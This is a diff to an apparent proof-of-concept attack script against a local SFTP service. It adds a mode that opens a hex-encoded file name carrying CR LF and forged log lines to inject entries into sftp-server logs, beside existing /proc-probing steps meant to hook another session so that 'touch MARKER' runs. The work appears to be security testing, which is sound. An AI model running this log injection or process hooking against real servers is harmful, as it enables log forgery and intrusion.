@@ -7,6 +7,9 @@
         the session ends, the wrapper would run `touch MARKER`.
     sftp_proc_attack.py PORT USER KEYFILE MARKER pid PID
         The same against process PID (a hook of the partner's other session).
+    sftp_proc_attack.py PORT USER KEYFILE - open NAME_HEX
+        Opens the file named by the hex bytes NAME_HEX for reading (a name that may hold CR LF
+        and forged log lines; sftp-server logs the open even when it fails).
 
 Prints one JSON object per step: {"step": ..., "ok": true|false, "detail": ...}. The attack worked
 if MARKER exists afterwards.
@@ -71,8 +74,12 @@ def main():
     client.connect("127.0.0.1", port=int(port), username=user, key_filename=keyfile,
                    look_for_keys=False, allow_agent=False, timeout=20)
     sftp = client.open_sftp()
-    step("list /proc", lambda: len(sftp.listdir("/proc")))
-    if mode == "wrapper":
+    if mode != "open":
+        step("list /proc", lambda: len(sftp.listdir("/proc")))
+    if mode == "open":
+        name = bytes.fromhex(sys.argv[6])
+        step("open the name", lambda: sftp.open(name.decode("utf-8", "surrogateescape"), "rb").close())
+    elif mode == "wrapper":
         stat = step("read /proc/self/stat", lambda: read(sftp, "/proc/self/stat").decode())
         if stat:
             ppid = int(stat.rsplit(")", 1)[1].split()[1])
